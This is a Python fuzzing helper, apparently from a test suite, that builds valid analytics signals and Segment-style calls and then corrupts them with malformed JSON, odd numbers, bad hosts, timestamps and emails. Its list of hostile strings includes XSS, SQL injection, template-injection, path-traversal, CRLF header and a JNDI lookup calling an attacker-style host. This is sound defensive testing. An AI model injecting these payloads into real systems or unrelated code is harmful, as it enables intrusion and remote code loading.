"""Documents as clients send them, and what somebody hostile makes of them: JSON that is wrong in every way we know."""

from __future__ import annotations

import json
import re
import string
from random import Random
from typing import Any

from contracts.signals import KINDS

RAW = "\x02raw:"
"""Begins a text whose rest is written into the JSON as it is: what no encoder would write."""

_RAWLY = re.compile(r'"\\u0002raw:([^"\\]*)"')
_RAW_VALUES = ("NaN", "Infinity", "-Infinity", "1e999", "0.1e-400", "9" * 400, "01", "'a'", "tru", "", "{", "[")
_NUMBERS = (0, -1, 1, 2**31, 2**53, 2**53 + 1, 2**63, 2**64, -(2**63) - 1, 10**25, 0.1, -0.0, 1e308, 5e-324, 1e15)
_TEXTS = (
    "",
    " ",
    "\0",
    "a\0b",
    "\ud800",
    "\udfff\ud800",
    "\u202eevil",
    "e" + "\u0301" * 500,
    "👩‍👩‍👧‍👦",
    "ﷺ" * 50,
    "İ",
    "ß" * 300,
    "\r\nX-Evil: 1",
    "<script>alert(1)</script>",
    "'; DROP TABLE signals; --",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "../../etc/passwd",
    "__proto__",
    "null",
    "1e5",
    "true",
)
_HOSTS = (
    *("shop.example.com", "SHOP.EXAMPLE.COM.", "shop.example.com.evil.io", "xn--80ak6aa92e.com", "*.example.com"),
    *("a." * 200 + "com", "exämple.com", "shop_example.com", "[::1]", "127.0.0.1:80", "xn--ü", "…"),
)
_TIMES = (
    *("2026-11-23T10:15:30Z", "2026-02-30T00:00:00Z", "0000-00-00T00:00:00Z", "9999-12-31T23:59:60+23:59", "soon"),
    *("2026-11-23", "2026-11-23T10:15:30", "1969-12-31T23:59:59Z", "2026-11-23T10:15:30.123456789Z", "-1", "T"),
)
_PEOPLE = ("a@b", "@", "A" * 65 + "@example.com", "a@" + "b" * 260, '"a b"@example.com', "ada@exämple.com", "a@b@c.de")


def signal(random: Random) -> dict[str, Any]:
    """A valid signal of any kind, of one of many customers."""
    kind = random.choice(KINDS)
    data: dict[str, Any] = {
        "signal": kind.name,
        "site": "shop.example.com",
        "email": f"ada{random.randrange(100_000)}@example.com",
        "items": [{"productId": name(random), "quantity": 1, "price": 9.5, "currency": "EUR"}],
        "productId": name(random),
        "name": "news",
        "step": "address",
        "url": "https://shop.example.com/mug",
    }
    data |= {f"{each}Id": name(random) for each in ("cart", "session", "order", "booking", "survey", "game")}
    data |= {f"{each}Id": name(random) for each in ("conversion", "application")}
    signal = {"id": name(random), "time": "2026-11-23T10:15:30.123Z", "sentAt": "2026-11-23T10:15:31Z", "data": data}
    return signal | ({"consent": True} if random.random() < 0.5 else {})


def call(random: Random) -> dict[str, Any]:
    """A valid call of Segment's API."""
    event = random.choice(("Product Added", "Product Viewed", "Order Completed", "Signed Up", "Other"))
    product = {"product_id": name(random), "price": "12.50", "quantity": 1, "currency": "EUR"}
    return {
        "type": random.choice(("track", "page", "screen", "identify", "group", "alias")),
        "messageId": name(random),
        "userId": f"u{random.randrange(100_000)}",
        "anonymousId": name(random),
        "event": event,
        "properties": {**product, "products": [product], "url": "https://shop.example.com/"},
        "context": {
            "traits": {"email": "ada@example.com"},
            "page": {"url": "https://shop.example.com/"},
            "consent": random.choice((True, {"categoryPreferences": {"all": True}}, None)),
        },
        "timestamp": "2026-11-23T10:15:30Z",
        "sentAt": "2026-11-23T10:15:31Z",
    }


def name(random: Random) -> str:
    """A text that did not come before: what is remembered by name must forget it, too."""
    return "".join(random.choices(string.ascii_letters + string.digits, k=random.randrange(1, 20)))


def spoiled(document: Any, random: Random) -> Any:
    """The document with something hostile at some places."""
    for _ in range(random.randrange(1, 5)):
        place = _some_place(document, random)
        if place is None:
            document = hostile(random)
            continue
        holder, key = place
        if isinstance(holder, dict):
            _spoil_member(holder, key, random)
        else:
            holder[key] = hostile(random)
    return document


def _spoil_member(holder: dict[str, Any], key: str, random: Random) -> None:
    what = random.random()
    if what < 0.65:
        holder[key] = hostile(random, key)
    elif what < 0.8:
        holder[hostile_text(random)] = holder.pop(key)
    elif what < 0.9:
        del holder[key]
    else:
        holder["attributes"] = hostile(random)


def hostile(random: Random, key: str = "") -> Any:
    """A value that nobody expects; where the key tells what is expected, often something like it."""
    fitting = {"site": _HOSTS, "url": _HOSTS, "time": _TIMES, "sentAt": _TIMES, "timestamp": _TIMES, "email": _PEOPLE}
    if key in fitting and random.random() < 0.5:
        return random.choice(fitting[key])
    what = random.random()
    if what < 0.3:
        return hostile_text(random)
    if what < 0.5:
        return random.choice(_NUMBERS)
    if what < 0.6:
        return RAW + random.choice(_RAW_VALUES)
    if what < 0.7:
        return random.choice((None, True, False, [], {}, [[]], [{}], [None] * 50))
    if what < 0.8:
        return _nested(random.choice((2, 9, 50, 400)), random)
    if what < 0.9:
        return {name(random): random.choice(_NUMBERS) for _ in range(random.choice((3, 60, 1500)))}
    return [signal(random) for _ in range(random.randrange(4))]


def hostile_text(random: Random) -> str:
    """A text that is odd, long or random."""
    what = random.random()
    if what < 0.5:
        return random.choice(_TEXTS)
    if what < 0.6:
        return random.choice("aé漢👾") * random.choice((256, 8193, 70_000))
    return "".join(chr(random.randrange(0x110000)) for _ in range(random.randrange(1, 40)))


def _nested(depth: int, random: Random) -> Any:
    value: Any = name(random)
    for _ in range(depth):
        value = [value] if random.random() < 0.5 else {"a": value}
    return value


def _some_place(document: Any, random: Random) -> tuple[Any, Any] | None:
    """A holder and a key or index in it, somewhere; None at the document itself."""
    holder: Any = None
    key: Any = None
    here = document
    while isinstance(here, dict | list) and here and (holder is None or random.random() < 0.7):
        holder = here
        key = random.choice(list(here)) if isinstance(here, dict) else random.randrange(len(here))
        here = here[key]
    return None if holder is None or random.random() < 0.05 else (holder, key)


def written(document: Any, random: Random) -> bytes:
    """Its JSON, sometimes with members twice; lone surrogates are written as they are or as escapes."""
    plain = random.random() < 0.8
    text = json.dumps(document, ensure_ascii=not plain, allow_nan=True)
    text = _RAWLY.sub(lambda found: found[1], text)
    if random.random() < 0.05 and isinstance(document, dict) and text.startswith("{"):
        text = '{"id": 7, "data": [], "data": {}, ' + text[1:]
    return text.encode("utf-8", "surrogatepass")
